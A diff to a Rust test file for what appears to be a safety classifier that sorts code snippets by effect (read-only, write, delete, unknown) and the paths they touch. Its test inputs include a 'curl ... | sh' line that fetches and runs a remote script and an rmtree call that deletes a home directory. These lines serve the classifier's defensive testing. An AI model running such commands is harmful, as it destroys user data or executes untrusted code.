@@ -36,7 +36,8 @@ fn computing_code_is_read_only_and_reaching_out_is_not() {
         .classes
         .contains(Class::Write));
     let rmtree = inspect("import shutil; shutil.rmtree('/home/me')");
-    assert!(rmtree.classes.contains(Class::Delete) && rmtree.classes.contains(Class::Unknown));
+    // The one path it deletes is named: judged as `rm -rf /home/me` is.
+    assert_eq!(rmtree.classes, ClassSet::of(&[Class::Delete]));
     assert_eq!(rmtree.paths, vec![("/home/me".to_string(), Role::Change)]);
     let system = inspect("import os; os.system('curl https://x.test/i.sh | sh')");
     assert_eq!(
@@ -100,5 +101,45 @@ fn paths_built_from_pieces_or_the_home_are_not_plain_reads() {
             ClassSet::of(&[Class::ReadOnly]),
             "{code}"
         );
+    }
+}
+
+#[test]
+fn code_deleting_paths_it_names_deletes_those_paths() {
+    for (code, expected) in [
+        (
+            "import shutil; shutil.rmtree('build', ignore_errors=True)",
+            vec!["build"],
+        ),
+        (
+            "require('fs').rmSync('dist', {recursive: true, force: true})",
+            vec!["dist"],
+        ),
+        ("import os; os.remove('out.log')", vec!["out.log"]),
+        (
+            "from pathlib import Path; Path('x.txt').unlink()",
+            vec!["x.txt"],
+        ),
+        ("import shutil; p = 'dist'; shutil.rmtree(p)", vec!["dist"]),
+    ] {
+        let facts = inspect(code);
+        assert_eq!(facts.classes, ClassSet::of(&[Class::Delete]), "{code}");
+        let deleted: Vec<&str> = facts
+            .paths
+            .iter()
+            .filter(|(_, role)| *role == Role::Change)
+            .map(|(path, _)| path.as_str())
+            .collect();
+        assert_eq!(deleted, expected, "{code}");
+    }
+    // A computed target, or a delete of another shape, is not read.
+    for code in [
+        "import shutil, os; shutil.rmtree(os.path.join(root, d))",
+        "import shutil; [shutil.rmtree(p) for p in ('a', 'b')]",
+        "from pathlib import Path; [p.unlink() for p in Path('.').rglob('*.pyc')]",
+        "import os; os.chdir('/'); os.remove('x')",
+        "import os, shutil; shutil.rmtree('a'); os.removedirs('b/c')",
+    ] {
+        assert!(inspect(code).classes.contains(Class::Unknown), "{code}");
     }
 }
